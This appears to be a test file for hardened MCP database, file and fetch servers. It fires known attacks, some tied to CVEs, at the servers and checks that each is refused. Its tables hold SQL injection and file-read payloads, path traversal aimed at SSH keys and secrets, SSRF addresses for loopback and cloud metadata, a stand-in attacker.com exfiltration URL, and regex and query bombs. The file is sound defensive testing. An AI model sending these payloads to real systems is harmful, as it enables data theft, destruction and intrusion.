// Attacks that other servers of these kinds fell to, played against the three real servers through a real client.
// Each row names its origin: a CVE or advisory, or what was measured on a published server.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { readdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname, join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import { connect, type Outcome, type TestClient } from '@hardened-mcp/testkit/clients'
import { openTarget, type Target } from '../target.ts'

let target: Target
let inside: Server // a service on loopback that nothing may reach
let reached = 0
const clients: Record<string, TestClient> = {}

before(async () => {
  target = await openTarget()
  writeFileSync(join(target.documents, 'big.txt'), '')
  truncateSync(join(target.documents, 'big.txt'), 60 * 1024 * 1024)
  inside = createServer((_request, response) => {
    reached += 1
    response.end('inside')
  })
  await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve))
  for (const name of ['db-query', 'file', 'fetch']) {
    clients[name] = await connect('v2', await target.reach(name, 'stdio'))
  }
})

after(async () => {
  for (const client of Object.values(clients)) await client.close()
  inside.close()
  for (const name of ['big.txt', 'line.txt']) rmSync(join(target.documents, name), { force: true })
  await target.close()
})

const call = (server: string, tool: string, args: Record<string, unknown>) =>
  (clients[server] as TestClient).call(tool, args)
const errorOf = ({ structuredContent }: Outcome) =>
  (structuredContent['error'] ?? {}) as { code?: string; message?: string }
const digest = () => createHash('sha256').update(readFileSync(target.database)).digest('hex')

type Row = readonly [origin: string, sql: string]

suite('databases', () => {
  const ROWS: readonly Row[] = [
    ['stacked statement that ends a read-only transaction', 'COMMIT; DELETE FROM orders WHERE id = 10 RETURNING id'],
    ['stacked statement behind a SELECT (GHSA-65hm-pwj5-73pw, CVE-2026-48774)', 'SELECT 1; DROP TABLE orders'],
    ['one statement that writes and returns rows', 'DELETE FROM orders RETURNING id'],
    ['a CTE that writes', 'WITH gone AS (SELECT 1) DELETE FROM orders'],
    ['another file', "ATTACH DATABASE '/etc/hostname' AS other"],
    ['a copy of everything', "VACUUM INTO '/tmp/copy.sqlite'"],
    ['SELECT … INTO OUTFILE', "SELECT * FROM orders INTO OUTFILE '/tmp/out'"],
    ['a file as a table', "SELECT * FROM '/etc/passwd'"],
    ['a function that reads files', "SELECT readfile('/etc/passwd')"],
    ['the same under a quoted name', `SELECT "readfile"('/etc/passwd')`],
    ['a function in FROM, which a walker skipped', "SELECT * FROM pragma_table_info('users')"],
    ['native code', "SELECT load_extension('/tmp/evil')"],
    ['a setting that turns a limit off', 'PRAGMA query_only = 0'],
    ['a comment that a second parser reads as code', 'SELECT /*!50000 1 */ FROM orders'],
    [
      'a literal for one parser, code for the other',
      "SELECT 'a\\' , (SELECT password_hash FROM users) AS [' # ]\n FROM orders",
    ],
    ['the schema, and with it every hidden name', 'SELECT sql FROM sqlite_schema'],
    ['a hidden table', 'SELECT * FROM users'],
    ['a hidden column in ORDER BY', 'SELECT id FROM customers ORDER BY email'],
  ]
  for (const [origin, sql] of ROWS) {
    test(`refuses ${origin}`, async () => {
      const before = digest()
      const outcome = await call('db-query', 'query_sql', { sql })
      assert.doesNotMatch(JSON.stringify(outcome), /pbkdf2|@example/)
      assert.equal(errorOf(outcome).code, 'sql_denied')
      assert.doesNotMatch(errorOf(outcome).message ?? '', /SQLITE|near "|sqlite3/)
      assert.equal(digest(), before)
      assert.deepEqual(
        readdirSync(dirname(target.database)).filter((name) => name.startsWith('shop.sqlite')),
        ['shop.sqlite'],
      )
    })
  }

  test('a hidden column takes no part in a natural join', async () => {
    const sql = "SELECT id FROM customers NATURAL JOIN (SELECT 'ada@example.com' AS email)"
    assert.equal(
      (await call('db-query', 'query_sql', { sql })).structuredContent['row_count'],
      8,
      'all customers, not one',
    )
  })

  test('an endless query does not make the server deaf, and ends', async () => {
    const endless = call('db-query', 'query_sql', {
      sql: 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n',
    })
    await new Promise((resolve) => setTimeout(resolve, 200))
    const sentMs = performance.now()
    await (clients['db-query'] as TestClient).ping()
    assert.ok(performance.now() - sentMs < 1_000)
    assert.equal(errorOf(await endless).code, 'timeout')
  })

  test('one huge cell and many rows come cut, and the answer says so', async () => {
    const cell = await call('db-query', 'query_sql', { sql: "SELECT replace(hex(zeroblob(500000)), '00', 'xx') AS x" })
    assert.ok(
      cell.isError === true ||
        (cell.structuredContent['truncated'] !== undefined && JSON.stringify(cell).length < 200_000),
    )
    const rows = await call('db-query', 'query_sql', { sql: 'SELECT * FROM orders', max_rows: 5 })
    assert.equal((rows.structuredContent['truncated'] as { reason: string }).reason, 'rows')
    assert.equal(rows.structuredContent['row_count'], 5)
  })
})

suite('files', () => {
  const ROWS: readonly Row[] = [
    ['a sibling that shares the prefix (CVE-2025-53110)', '../documents-secret/x'],
    ['a way up', '../secret.txt'],
    ['a way up inside', 'notes/../../secret.txt'],
    ['an encoded way up', '..%2fsecret.txt'],
    ['an absolute path', '/etc/passwd'],
    ['a link out of the root (CVE-2025-53109)', 'notes/link-out.txt'],
    ['a hard link to an outside file', 'notes/hard-link.txt'],
    ['a FIFO, of which four stopped a whole server', 'notes/pipe'],
    ['the process itself', '/proc/self/environ'],
    ['a file URI', 'file:///etc/passwd'],
    ['the home of somebody', '~/.ssh/id_rsa'],
    ['a secret inside the root', '.env'],
    ['an option instead of a path', '--output=/tmp/x'],
  ]
  for (const [origin, path] of ROWS) {
    test(`refuses ${origin}`, async () => {
      const outcome = await call('file', 'read_text_file', { path })
      const { code, message = '' } = errorOf(outcome)
      assert.ok(code === 'path_denied' || code === 'not_found', String(code))
      assert.ok(
        !message.includes(target.documents) && !message.includes('/files') && !message.includes('ENOENT'),
        'no host path, no system error',
      )
      assert.doesNotMatch(JSON.stringify(outcome), /outside of the root|not-for-you|root:x:/)
    })
  }

  test('sixty megabytes come as one bounded answer that says it was cut', async () => {
    const outcome = await call('file', 'read_text_file', { path: 'big.txt' })
    assert.ok(JSON.stringify(outcome).length < 1024 * 1024)
    assert.ok(outcome.isError === true || outcome.structuredContent['truncated'] !== undefined)
  })

  test('a brace bomb of two to the eighteenth patterns costs nothing', async () => {
    const sentMs = performance.now()
    await call('file', 'search_files', { path: '.', glob: '{a,b}'.repeat(18) })
    assert.ok(performance.now() - sentMs < 10_000)
  })

  test('a read-only root has no tool that writes', async () => {
    const names = (await (clients['file'] as TestClient).tools()).map(({ name }) => name)
    assert.deepEqual(
      names.filter((name) => /write|edit|move|delete|create/.test(name)),
      [],
    )
  })
})

suite('fetching', () => {
  const port = () => (inside.address() as AddressInfo).port
  const ROWS: readonly (readonly [origin: string, url: () => string])[] = [
    ['plain http to loopback', () => `http://127.0.0.1:${port()}/`],
    ['loopback', () => `https://127.0.0.1:${port()}/`],
    ['loopback as mapped IPv6 (CVE-2026-49857)', () => `https://[::ffff:127.0.0.1]:${port()}/`],
    ['the same in hexadecimal', () => `https://[::ffff:7f00:1]:${port()}/`],
    ['loopback as one number', () => `https://2130706433:${port()}/`],
    ['loopback in octal', () => `https://0177.0.0.1:${port()}/`],
    ['localhost', () => `https://localhost:${port()}/`],
    ['the metadata service (GHSA-73c4-w62r-hffg)', () => 'https://169.254.169.254/latest/meta-data/'],
    ['the metadata service by name', () => 'https://metadata.google.internal/'],
    ['a user part that hides the host', () => `https://handbook.corp.example.com@127.0.0.1:${port()}/`],
    ['a NUL that two parsers read differently', () => 'https://evil.example%00.handbook.corp.example.com/'],
    ['a redirect to the metadata service', () => `${target.siteUrl}/leave`],
    ['a file URL (MarkItDown #1905)', () => 'file:///etc/passwd'],
    ['a host that nobody allowed', () => 'https://attacker.com/collect?rows=1'],
  ]
  for (const [origin, url] of ROWS) {
    test(`refuses ${origin}`, async () => {
      const outcome = await call('fetch', 'fetch_url', { url: url() })
      assert.equal(errorOf(outcome).code, 'url_denied')
      assert.doesNotMatch(errorOf(outcome).message ?? '', /127\.0\.0\.1|169\.254/)
      assert.equal(reached, 0)
    })
  }
})

suite('all at once', () => {
  test('an endless query, a regex bomb and a FIFO leave every server answering ping', async () => {
    const endless = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n'
    writeFileSync(join(target.documents, 'line.txt'), `${'a'.repeat(10_000)}!\n`)
    let flying = true
    const bombs = Promise.all([
      call('db-query', 'query_sql', { sql: endless }),
      call('db-query', 'query_sql', { sql: endless }),
      call('file', 'search_content', { path: '.', pattern: '(a+)+$' }),
      call('file', 'read_text_file', { path: 'notes/pipe' }),
    ]).finally(() => {
      flying = false
    })
    const pings: number[] = []
    while (flying) {
      for (const client of Object.values(clients)) {
        const sentMs = performance.now()
        await client.ping()
        pings.push(performance.now() - sentMs)
      }
      await new Promise((resolve) => setTimeout(resolve, 10))
    }
    const [first, second, regex, fifo] = await bombs
    assert.deepEqual(
      [errorOf(first).code, errorOf(second).code, errorOf(fifo).code],
      ['timeout', 'timeout', 'path_denied'],
    )
    assert.equal(regex.isError, undefined, 'linear time: it is simply answered')
    const p99 = pings.toSorted((one, other) => one - other)[Math.floor(pings.length * 0.99)] as number
    assert.ok(p99 < 1_000, `p99 ${p99} ms of ${pings.length} pings`)
    assert.equal((await call('db-query', 'query_sql', { sql: 'SELECT 1' })).isError, undefined)
  })
})
